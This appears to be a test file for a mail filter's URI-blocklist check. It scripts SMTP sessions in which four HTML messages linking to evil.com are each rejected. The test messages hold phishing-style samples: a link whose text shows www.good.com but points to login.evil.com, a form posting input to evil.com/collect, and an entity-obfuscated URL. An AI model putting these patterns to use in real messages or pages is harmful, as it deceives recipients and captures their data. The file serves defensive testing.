# 513-surbl-html-link.t: a link that only the markup shows is found, whatever the text says
config: checks: { surbl: { lists: [{ zone: multi.test, score: 12 }] } }
D: evil.com.multi.test A 127.0.0.2
C> session from 192.0.2.1, envelope, content
C> From: A <a@example.org>
C> Subject: hello
C> MIME-Version: 1.0
C> Content-Type: text/html; charset=utf-8
C>
C> <html><body><p>Visit <a href="http://login.evil.com/">www.good.com</a></p></body></html>
C> .
S< 550 5.7.1 Message content rejected: evil.com on multi.test 127.0.0.2 (mxward *)
C> envelope, content
C> From: A <a@example.org>
C> Subject: hello
C> MIME-Version: 1.0
C> Content-Type: text/html
C>
C> <form method=post action=//evil.com/collect><input name=p></form>
C> .
S< 550 5.7.1 Message content rejected: evil.com on multi.test 127.0.0.2 (mxward *)
C> envelope, content
C> From: A <a@example.org>
C> Subject: hello
C> MIME-Version: 1.0
C> Content-Type: text/html
C>
C> <a href="h&#116;tp://ev&#x69;l&period;com/">good</a>
C> .
S< 550 5.7.1 Message content rejected: evil.com on multi.test 127.0.0.2 (mxward *)
C> envelope, content
C> From: A <a@example.org>
C> Subject: hello
C> MIME-Version: 1.0
C> Content-Type: text/plain
C>
C> <html><a href="http://evil.com/">good</a></html>
C> .
S< 550 5.7.1 Message content rejected: evil.com on multi.test 127.0.0.2 (mxward *)
C> goodbye
U= messages 0
L< {"event": "message", "action": "reject", "rule": "score", "score": 12, "evidence": [{"check": "surbl", "fact": "listed", "detail": "evil.com on multi.test 127.0.0.2"}]}
